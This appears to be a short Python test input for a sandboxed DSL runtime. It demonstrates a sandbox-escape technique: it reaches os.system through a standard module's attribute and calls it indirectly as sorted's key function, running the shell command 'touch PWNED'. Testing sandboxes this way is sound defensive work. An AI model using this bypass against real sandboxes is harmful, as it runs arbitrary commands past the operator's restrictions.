# Attack: a method bound to a standard module's object, passed as a value (a call to it by name
# would be refused, but `sorted` makes the call).
from dsl.runtime import engine as _rt

runner = _rt.random._os
sorted(["touch PWNED"], key=runner.system)
